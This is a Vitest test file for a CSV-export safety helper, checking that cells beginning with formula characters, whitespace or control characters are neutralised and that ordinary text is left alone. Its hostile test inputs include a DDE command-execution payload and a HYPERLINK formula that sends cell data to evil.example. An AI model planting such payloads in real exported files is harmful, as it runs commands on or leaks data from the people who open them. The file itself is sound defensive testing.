import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { FORMULA_START, SAFE_CSV } from '@/lib/csv-safety';

/** Cells as a spreadsheet gets them back from the file. */
const roundTrip = (cells: string[]) =>
  Papa.parse<string[]>(Papa.unparse([cells], SAFE_CSV)).data[0]!;

describe('CSV cells a spreadsheet would run (issue 9, hostile input)', () => {
  it('neutralises formulas on one line and on several', () => {
    const cells = [
      '=1+1',
      '+SUM(1+1)',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1)',
      // Papa's own escapeFormulae: true let these through: its .* stops at a line break.
      '=HYPERLINK("https://evil.example/?"&A1,"Refund")\nThanks!',
      '+1\r\n-2',
    ];
    expect(roundTrip(cells)).toEqual(cells.map((cell) => `'${cell}`));
    expect(Papa.unparse([[cells[4]!]], { escapeFormulae: true })).not.toContain("'=");
  });

  it('neutralises a formula behind spaces, and cells starting with tab, line break or NUL', () => {
    const cells = [' =1+1', '\u00a0\n=1+1', '\t=1+1', '\tplain', '\rplain', '\nplain', '\0=1'];
    expect(roundTrip(cells)).toEqual(cells.map((cell) => `'${cell}`));
  });

  it('leaves ordinary text, and formulas that do not start the cell, alone', () => {
    const cells = ['Great service', 'a=1+1', '1 + 1 = 2', "It's -5 outside", 'x@y.example', ''];
    expect(roundTrip(cells)).toEqual(cells);
    expect(cells.some((cell) => FORMULA_START.test(cell))).toBe(false);
  });
});
